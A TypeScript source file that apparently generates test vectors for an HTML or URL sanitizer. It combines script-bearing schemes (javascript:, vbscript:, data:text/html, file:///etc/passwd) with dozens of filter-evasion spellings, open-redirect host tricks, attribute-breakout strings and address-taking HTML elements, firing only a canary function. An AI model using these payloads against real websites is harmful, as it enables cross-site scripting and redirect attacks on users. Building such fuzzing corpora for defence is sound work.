import { CANARY, vectorsOf } from './vector.ts'

const SCRIPT = '<script>fire({n})</script>'

/** Addresses that run something or read something, by scheme and the rest. */
const SCHEMES: readonly (readonly [scheme: string, rest: string])[] = [
  ['javascript', 'fire({n})'],
  ['javascript', '//%0Afire({n})'],
  ['javascript', '//\u2028fire({n})'],
  ['javascript', '"<script>fire({n})</script>"'],
  ['vbscript', 'fire({n})'],
  ['data', `text/html,${SCRIPT}`],
  ['data', `text/html;charset=utf-8,${encodeURIComponent(SCRIPT).replace('%7Bn%7D', '{n}')}`],
  ['data', 'image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="fire({n})"/>'],
  ['data', 'text/javascript,fire({n})'],
  ['blob', 'https://canary.invalid/{n}'],
  ['view-source', 'javascript:fire({n})'],
  ['file', '///etc/passwd?{n}'],
  ['filesystem', 'https://canary.invalid/temporary/{n}'],
  ['feed', 'javascript:fire({n})'],
  ['jar', 'https://canary.invalid/{n}!/x.html'],
  ['livescript', 'fire({n})'],
  ['mocha', 'fire({n})'],
  ['about', 'blank#{n}'],
  ['chrome', '//settings/{n}'],
  ['intent', '//canary.invalid/{n}#Intent;scheme=http;end'],
  ['ms-its', 'https://canary.invalid/{n}'],
  ['x-javascript', 'fire({n})'],
]

const everyOther = (text: string): string =>
  [...text].map((letter, at) => (at % 2 === 0 ? letter : letter.toUpperCase())).join('')

const inside =
  (sign: string) =>
  (scheme: string): string =>
    `${scheme.slice(0, 4)}${sign}${scheme.slice(4)}:`

const coded = (text: string, code: (letter: string) => string): string => [...text].map(code).join('')

const pointOf = (letter: string): number => letter.codePointAt(0) ?? 0

const hex = (letter: string): string => pointOf(letter).toString(16).padStart(2, '0')

/** How a scheme may be spelled so that a filter does not recognise it. */
const SPELLINGS: readonly ((scheme: string) => string)[] = [
  scheme => `${scheme}:`,
  scheme => `${scheme.toUpperCase()}:`,
  scheme => `${everyOther(scheme)}:`,
  ...[
    ' ',
    '\t',
    '\n',
    '\r\n',
    '\f',
    '\u00A0',
    '\u200B',
    '\u2028',
    '\u3000',
    '\uFEFF',
    '\u0001',
    '\u0000',
    '\u001F',
    '\u007F',
  ].map(sign => (scheme: string) => `${sign}${scheme}:`),
  ...['\t', '\n', '\r', '\u0000', '\u00AD', '\u200D', '\u200E', '/**/', '\\', '&Tab;', '&NewLine;', '&#x0A;', '%0A', '%09'].map(
    inside,
  ),
  scheme => `${scheme} :`,
  scheme => `${scheme}\t:`,
  scheme => `${scheme}&colon;`,
  scheme => `${scheme}&#58;`,
  scheme => `${scheme}&#x3A`,
  scheme => `${scheme}%3A`,
  scheme => `${scheme}\uFF1A`,
  scheme => `${scheme}\\u003a`,
  scheme => `${coded(scheme, letter => `&#${pointOf(letter)};`)}:`,
  scheme => `${coded(scheme, letter => `&#${String(pointOf(letter)).padStart(7, '0')}`)}:`,
  scheme => `${coded(scheme, letter => `&#x${hex(letter)};`)}:`,
  scheme => `${coded(scheme, letter => `&amp;#${pointOf(letter)};`)}:`,
  scheme => `${coded(scheme, letter => `%${hex(letter)}`)}:`,
  scheme => `${coded(scheme, letter => `%25${hex(letter)}`)}:`,
  scheme => `${coded(scheme, letter => `\\x${hex(letter)}`)}:`,
  scheme => `${coded(scheme, letter => `\\u00${hex(letter)}`)}:`,
  scheme => `http:${scheme}:`,
  scheme => `https://example.org/ ${scheme}:`,
  scheme => `https://example.org\n${scheme}:`,
  scheme => `url:${scheme}:`,
  scheme => `URL(${scheme}:`,
  scheme => `doi:${scheme}:`,
  scheme => `mailto:${scheme}:`,
  scheme => `#${scheme}:`,
  scheme => `?${scheme}:`,
]

/** Addresses of another host that look like a path. */
const ELSEWHERE = [
  `//${CANARY}/{n}`,
  `///${CANARY}/{n}`,
  `////${CANARY}/{n}`,
  `/\\${CANARY}/{n}`,
  `\\\\${CANARY}\\{n}`,
  `\\/${CANARY}/{n}`,
  `/\t/${CANARY}/{n}`,
  `/\n/${CANARY}/{n}`,
  `/%09/${CANARY}/{n}`,
  `/%2f${CANARY}/{n}`,
  `/%5c${CANARY}/{n}`,
  `/.//${CANARY}/{n}`,
  `/..//${CANARY}/{n}`,
  `https:${CANARY}/{n}`,
  `https:/${CANARY}/{n}`,
  `https:\\\\${CANARY}\\{n}`,
  `http://${CANARY}/{n}`,
  `https://${CANARY}/{n}`,
  `https://localhost@${CANARY}/{n}`,
  `https://localhost%00.${CANARY}/{n}`,
  `https://localhost\\@${CANARY}/{n}`,
  `https://${CANARY}:443/{n}`,
  `https://${CANARY}\uFF0F{n}`,
  `https://canary\u3002invalid/{n}`,
  `https://c\u24D0nary.invalid/{n}`,
  `@${CANARY}/{n}`,
  `.${CANARY}/{n}`,
  `/science/article/pii/../../..//${CANARY}/{n}`,
  `ftp://${CANARY}/{n}`,
  `ws://${CANARY}/{n}`,
  `mailto:a@${CANARY}?body={n}&attach=/etc/passwd`,
  `http://${CANARY}/{n}"onmouseover="fire({n})`,
  `https://example.org/"><img src=x onerror=fire({n})>`,
  `https://example.org/' onmouseover='fire({n})`,
]

/** Attributes and elements that take an address. */
const TAKERS: readonly ((address: string) => string)[] = [
  address => `<a href="${address}">x</a>`,
  address => `<a href="/x" ping="${address}">x</a>`,
  address => `<area href="${address}">`,
  address => `<img src="${address}">`,
  address => `<img srcset="${address} 1x, /x 2x">`,
  address => `<img lowsrc="${address}" dynsrc="${address}">`,
  address => `<picture><source srcset="${address}"><img></picture>`,
  address => `<iframe src="${address}"></iframe>`,
  address => `<frameset><frame src="${address}"></frameset>`,
  address => `<embed src="${address}">`,
  address => `<object data="${address}"></object>`,
  address => `<object codebase="${address}" classid="${address}"></object>`,
  address => `<applet code="${address}"></applet>`,
  address => `<form action="${address}"><button>x</button></form>`,
  address => `<button form=search formaction="${address}">x</button>`,
  address => `<input type=submit formaction="${address}">`,
  address => `<input type=image src="${address}">`,
  address => `<isindex action="${address}" type=image>`,
  address => `<link rel=stylesheet href="${address}">`,
  address => `<link rel=prefetch href="${address}">`,
  address => `<link rel=preload as=script href="${address}">`,
  address => `<link rel=modulepreload href="${address}">`,
  address => `<link rel=import href="${address}">`,
  address => `<link rel=manifest href="${address}">`,
  address => `<link rel=icon href="${address}">`,
  address => `<base href="${address}">`,
  address => `<meta http-equiv=refresh content="0;url=${address}">`,
  address => `<script src="${address}"></script>`,
  address => `<script type=module>import "${address}"</script>`,
  address => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${address}"]}]}</script>`,
  address => `<body background="${address}">`,
  address => `<table background="${address}"><td background="${address}">`,
  address => `<video poster="${address}" src="${address}"></video>`,
  address => `<audio src="${address}"></audio>`,
  address => `<video><track default src="${address}"></video>`,
  address => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  address => `<svg><use href="${address}#x" /></svg>`,
  address => `<svg><image href="${address}" /></svg>`,
  address => `<svg><feImage href="${address}" /></svg>`,
  address => `<svg><script href="${address}"></script></svg>`,
  address => `<svg><a><set attributeName=href to="${address}" /><text>x</text></a></svg>`,
  address => `<svg><a><animate attributeName=href values="${address}" /><text>x</text></a></svg>`,
  address => `<math href="${address}"><mi>x</mi></math>`,
  address => `<math><maction actiontype="statusline#${address}" xlink:href="${address}">x</maction></math>`,
  address => `<math><mglyph src="${address}" /></math>`,
  address => `<blockquote cite="${address}">x</blockquote>`,
  address => `<portal src="${address}"></portal>`,
  address => `<fencedframe src="${address}"></fencedframe>`,
  address => `[x](${address})`,
  address => `<?xml-stylesheet href="${address}"?>`,
]

const PLAIN = SCHEMES.map(([scheme, rest]) => `${scheme}:${rest}`)

/** Bare addresses, for slots that are addresses. */
export const addressVectors = vectorsOf('addresses', [
  ...SCHEMES.flatMap(([scheme, rest]) => SPELLINGS.map(spelled => spelled(scheme) + rest)),
  ...ELSEWHERE,
])

/** Elements that take an address. */
export const takerVectors = vectorsOf(
  'elements with addresses',
  TAKERS.flatMap(taker =>
    [
      ...PLAIN.slice(0, 9),
      ...ELSEWHERE.slice(0, 6),
      `https://${CANARY}/{n}`,
      'JaVaScRiPt:fire({n})',
      '&#106avascript:fire({n})',
    ].map(address => taker(address.replaceAll('"', '&quot;'))),
  ),
)
